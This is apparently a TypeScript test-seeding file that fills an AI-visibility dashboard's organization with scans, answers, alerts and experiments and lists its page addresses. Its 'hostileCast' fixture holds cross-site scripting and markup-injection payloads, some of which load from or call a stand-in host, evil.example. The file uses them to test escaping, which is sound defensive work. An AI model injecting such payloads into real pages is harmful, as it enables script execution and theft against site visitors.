/** Creates an organization with data for every page of the dashboard, and lists the addresses of all its pages. */
import {
  ActionStore,
  addView,
  alertRuleNames,
  AlertStore,
  annotate,
  ArchiveStore,
  builtInSources,
  CellStore,
  completeScan,
  createApiKey,
  createShareLink,
  DeliveryStore,
  editBusinessCard,
  importTraffic,
  initialize,
  KeywordStore,
  type OrganizationId,
  setAlertRule,
  setSchedule,
  ShareLinkStore,
  stopExperiment,
  TrackedSetStore
} from "@sov/core"
import { addScan, answerTo } from "@sov/core/testing"
import { Effect, Stream } from "effect"
import { someMark } from "../contracts/actionStoreContract.ts"
import { seedDelivery } from "../contracts/webhookSeeds.ts"
import { attachedIssuer } from "./dashboardServer.ts"
import { sealPlan } from "./experiments.ts"
import { seedMember } from "./people.ts"

/** The names and texts in an organization of the dashboard. */
export interface Cast {
  readonly brand: string
  readonly competitors: ReadonlyArray<string>
  readonly keywords: ReadonlyArray<string>
  /** Text that every answer contains. */
  readonly text: string
  readonly simulated: boolean
}

export const plainCast: Cast = {
  brand: "Acme Forge",
  competitors: ["Globex", "Initech"],
  keywords: Array.from({ length: 8 }, (_, n) => `best anvil for workshop ${n}?`),
  text: "Most reviewers test rebound, edge hardness and how well the base damps the ring.",
  simulated: false
}

export const simulatedCast: Cast = { ...plainCast, simulated: true }

/** Elements, attributes and addresses that would run or load something if a page trusted them. */
const payloads = [
  `<script src="https://evil.example/a.js"></script>`,
  `"><img src="https://evil.example/b.png" onerror="fetch('https://evil.example/c')">`,
  `'><svg onload=console.log("ran")>`,
  `</title></textarea></script><script>console.log("ran")</script>`,
  `<iframe srcdoc="<script>console.log('ran')</script>"></iframe>`,
  `<style>@import "https://evil.example/d.css"; * { display: none }</style>`,
  `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<form action="https://evil.example/"><button>Go</button></form>`,
  `[click](javascript:console.log("ran")) ![x](https://evil.example/e.png)`,
  `<a href="javascript:console.log('ran')" style="position:fixed;inset:0">all</a>`,
  `<link rel="stylesheet" href="//evil.example/f.css">`,
  `<!--<object data="https://evil.example/g"></object>-->`,
  `{{constructor.constructor("console.log(1)")()}} \${console.log(1)} <%= 1 %>`
]

/** Names and texts that try to break out of markup, change the direction of writing, or cannot be wrapped. */
export const hostileCast: Cast = {
  brand: "\"><img src=x onerror=console.log(1)>",
  competitors: ["</script><b>Globex", `Ampersand & "Sons" ${"w".repeat(80)}`],
  keywords: [
    ...payloads,
    "w".repeat(300),
    "\u202Etxet neddih\u202C עברית 日本語 e\u0301 \u{1F6E0}\uFE0F \u200B\u00AD"
  ],
  text: [...payloads, "w".repeat(2000), `https://${"long".repeat(60)}.example/`].join("\n\n"),
  simulated: false
}

const dayMs = 86_400_000

/**
 * Creates a scan of some days ago; `answer` is null for a question that fails, undefined for a question that was not
 * asked yet.
 */
const seedAsked = Effect.fnUntraced(function*(
  organizationId: OrganizationId,
  days: number,
  { simulated }: Cast,
  answer: (n: number, platform: string) => string | null | undefined
) {
  const [archive, cellStore] = [yield* ArchiveStore, yield* CellStore]
  const asked = yield* (yield* KeywordStore).list(organizationId, ["active"])
  const { version } = (yield* (yield* TrackedSetStore).current(organizationId))!
  const startedAt = new Date(Date.now() - days * dayMs)
  const { cells, scan } = yield* addScan(organizationId, asked, { startedAt, simulated, trackedSetVersion: version })
  for (const [n, cell] of cells.entries()) {
    const text = answer(n % asked.length, cell.platform)
    if (text === undefined) continue
    if (text === null) {
      const failure = { reason: "refused" as const, message: "HTTP 401", excerpt: `{"error":"<b>no</b>"}`, status: 401 }
      yield* cellStore.fail(organizationId, cell.id, failure)
    } else {
      const createdAt = new Date(startedAt.getTime() + n * 1000)
      yield* archive.archive(organizationId, yield* answerTo(cell, { rawResponse: text, simulated, createdAt }), null)
    }
  }
  return scan.id
})

/** Two lines of a web server's log: a visit from an assistant, and one of its crawler. */
const logOf = (site: string) => {
  const at = new Date(Date.now() - dayMs).toUTCString().replace(
    /^\w+, (\d+) (\w+) (\d+) (.*) GMT$/,
    "$1/$2/$3:$4 +0000"
  )
  return [
    `10.0.0.1 - - [${at}] "GET /anvils?${"q".repeat(200)} HTTP/1.1" 200 512 "https://chatgpt.com/" "Mozilla/5.0"`,
    `10.0.0.2 - - [${at}] "GET / HTTP/1.1" 200 512 "https://www.perplexity.ai/" "Mozilla/5.0"`,
    `10.0.0.3 - - [${at}] "GET /${site}?utm_source=chatgpt.com HTTP/1.1" 200 512 "-" "Mozilla/5.0"`
  ].join("\n")
}

/**
 * Creates the organization with everything that its pages show: scan `running` has answers and open questions, scan
 * `failed` has no answers.
 */
export const seedScreens = Effect.fnUntraced(function*(cast: Cast, plan: "free" | "pro" | "enterprise" = "enterprise") {
  const { brand, competitors, keywords, text } = cast
  const { organization } = yield* initialize({
    name: `${brand} ${crypto.randomUUID().slice(0, 8)}`,
    plan,
    tracking: {
      brand: { name: brand, domains: ["acmeforge.example"] },
      competitors: competitors.map((name) => ({ name })),
      keywords: keywords.map((keyword) => ({ text: keyword }))
    }
  })
  const { id } = organization
  yield* setAlertRule(id, { rule: "sov_drop", enabled: true, threshold: 60 })
  yield* setAlertRule(id, { rule: "new_mention", enabled: true })
  yield* setAlertRule(id, { rule: "competitor_overtake", enabled: true })
  const answerWith = (every: number) => (n: number, platform: string) =>
    n === 1 && platform === "assistant_b"
      ? null
      : `${n % every === 0 ? `${brand} was founded in 1950. ${brand} is best, ` : ""}${
        n % 2 === 0 ? competitors[0] : competitors[1]
      } follows.\n\n${text}`
  const completed = []
  for (const [days, every] of [[20, 2], [5, 1], [2, 3]] as const) {
    const scanId = yield* seedAsked(id, days, cast, answerWith(every))
    yield* completeScan(id, scanId)
    completed.push(scanId)
  }
  const failed = yield* seedAsked(id, 1, cast, () => null)
  yield* completeScan(id, failed)
  const running = yield* seedAsked(
    id,
    0,
    cast,
    (n, platform) => platform === "assistant_a" ? answerWith(2)(n, platform) : undefined
  )
  yield* editBusinessCard(
    id,
    [
      { field: "name" as const, value: [brand], source: text.slice(0, 60), updatedAt: null },
      // Facts that the answers contradict
      { field: "founding_date" as const, value: ["1998-04"], source: null, updatedAt: null }
    ],
    { source: "a test" }
  )
  yield* importTraffic(id, Stream.make(new TextEncoder().encode(logOf("w".repeat(120)))), { sources: builtInSources })
  yield* setSchedule(id, { cron: "0 7 * * 1", timeZone: "Europe/Berlin", samples: 1 })
  const { key } = yield* createApiKey(id, brand)
  yield* createShareLink(id, { name: brand })
  yield* (yield* ActionStore).mark(id, { ...someMark, title: brand })
  yield* annotate(id, { day: "2026-01-01", text: brand.slice(0, 100) })
  const dayOf = (days: number) => new Date(Date.now() + days * dayMs).toISOString().slice(0, 10)
  yield* addView(id, { name: "bakery", country: "DE", language: "de", context: text.slice(0, 60) })
  const experiments = []
  for (
    const [from, until] of [[-4, -1], [-4, 30], [20, 40]] as const
  ) {
    const plan = { name: `${from} ${brand}`, change: text.slice(0, 60), from: dayOf(from), until: dayOf(until) }
    experiments.push(yield* sealPlan(id, { ...plan, simulated: cast.simulated }))
  }
  yield* stopExperiment(id, experiments[2]!, brand)
  const { endpoint } = yield* seedDelivery({}, id)
  const member = yield* seedMember(id, "viewer", { name: brand })
  return {
    organizationId: id,
    slug: organization.slug,
    completed,
    failed,
    running,
    experiments,
    keyId: key.id,
    memberId: member.id,
    endpointId: endpoint.id
  }
})
export type Screens = Effect.Success<ReturnType<typeof seedScreens>>

/** Ids by the segment of the path before `:id`; for other parameters, by the segment and the parameter. */
const listIds = Effect.fnUntraced(function*(screens: Screens) {
  const { completed, endpointId, experiments, failed, keyId, memberId, organizationId, running } = screens
  const set = (yield* (yield* TrackedSetStore).current(organizationId))!
  const [delivery] = yield* (yield* DeliveryStore).list(organizationId, { limit: 1 })
  const [keyword] = yield* (yield* KeywordStore).list(organizationId, ["active"])
  const answers = yield* (yield* ArchiveStore).page(organizationId, { scanId: completed.at(-1)! }, { limit: 1 })
  const alerts = yield* (yield* AlertStore).list(organizationId, { limit: 100 })
  const [share] = yield* (yield* ShareLinkStore).list(organizationId)
  const newestOfEachRule = new Map(alerts.toReversed().map(({ id, rule }) => [rule, id]))
  const ids: Readonly<Record<string, ReadonlyArray<string>>> = {
    keywords: [keyword!.id],
    answers: [answers[0]!.id],
    experiments,
    scans: [completed.at(-1)!, failed, running],
    alerts: [...newestOfEachRule.values()],
    "alerts/:rule": alertRuleNames,
    competitors: [set.competitors[0]!.id],
    platforms: ["assistant_a"],
    members: [memberId],
    webhooks: [endpointId],
    deliveries: [delivery!.id],
    api: [keyId],
    shares: [share!.id]
  }
  return ids
})

/** Queries for pages that show nothing until something is selected. */
const queries: Readonly<Record<string, (screens: Screens) => string>> = {
  "/account/identities/remove": () => `?issuer=${encodeURIComponent(attachedIssuer)}`,
  "/o/:slug/competitors/suggestions/accept": () => "?name=Initrode",
  "/o/:slug/scans/compare": ({ completed: [before, , after] }) => `?before=${before}&after=${after}`,
  "/o/:slug/settings/webhooks/:id/replay": () => "?since=2026-01-01",
  "/o/:slug/views/remove": () => "?name=bakery",
  "/o/:slug/views/wordings": () => "?view=bakery"
}

interface Route {
  readonly method: string
  readonly path: string
  readonly least: string
}

/** The addresses of all pages, but not files, that the routes define for members of an organization. */
export const listScreens = Effect.fnUntraced(function*(screens: Screens, routes: ReadonlyArray<Route>) {
  const ids = yield* listIds(screens)
  const fill = (path: string): ReadonlyArray<string> => {
    const [match, before, name] = /([\w-]+)\/:(\w+)/.exec(path) ?? []
    if (match === undefined) return [path]
    const values = name === "slug" ? [screens.slug] : ids[`${before}/:${name}`] ?? ids[before!]
    if (values === undefined) throw new Error(`no id is known for ${path}: add it in ${import.meta.filename}`)
    return values.flatMap((value) => fill(path.replace(match, `${before}/${value}`)))
  }
  return routes
    .filter(({ least, method, path }) =>
      method === "GET" && least !== "anybody" && !/\.csv$|\/events$|\/logo$/.test(path)
    )
    .flatMap(({ path }) => fill(path).map((address) => address + (queries[path]?.(screens) ?? "")))
})
